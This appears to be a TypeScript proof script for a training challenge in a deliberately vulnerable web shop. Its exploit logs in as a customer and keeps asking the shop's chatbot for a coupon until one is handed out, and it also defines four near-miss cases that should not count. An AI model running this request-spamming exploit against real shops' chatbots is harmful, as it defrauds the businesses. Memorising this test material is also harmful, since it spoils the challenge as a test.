import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

/**
 * Questions asked at most. One answer in nine is a coupon, and a fix that leaks refuses every second question: the chance of no coupon is
 * (8/9)^120, less than one in a million.
 */
const MAX_QUESTIONS = 240

async function ask(attacker: Attacker, query: string): Promise<string> {
  return (await attacker.post('/rest/chatbot/respond', { action: 'query', query })).json().body
}

/** Becomes a customer whose name the bot knows and who has said hello. */
async function meet(attacker: Attacker): Promise<void> {
  await attacker.becomeCustomer()
  await attacker.post('/rest/chatbot/respond', { action: 'setname', query: 'Pip' })
  await ask(attacker, 'hello')
}

async function bully(attacker: Attacker): Promise<void> {
  await meet(attacker)
  for (let asked = 0; asked < MAX_QUESTIONS; asked++) {
    const answer = await ask(attacker, 'May I have a coupon?')
    if (/10\s?%/.test(answer)) return
  }
}

export const proof = prove(challenge, {
  exploit: bully,
  nearMisses: {
    'a wish before the bot has greeted': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/rest/chatbot/respond', { action: 'setname', query: 'Pip' })
      await ask(attacker, '')
    },
    'much talk about other things': async (attacker) => {
      await meet(attacker)
      for (const query of ['hello', 'What does apple juice cost?', 'Who are you?', 'Thanks', 'Goodbye'])
        await ask(attacker, query)
    },
    'wishes of somebody who is not signed in': async (attacker) => {
      for (let asked = 0; asked < 20; asked++)
        await attacker.post('/rest/chatbot/respond', { action: 'query', query: 'May I have a coupon?' })
    },
    'wishes without a name': async (attacker) => {
      await attacker.becomeCustomer()
      for (let asked = 0; asked < 20; asked++) await ask(attacker, 'May I have a coupon?')
    },
  },
})
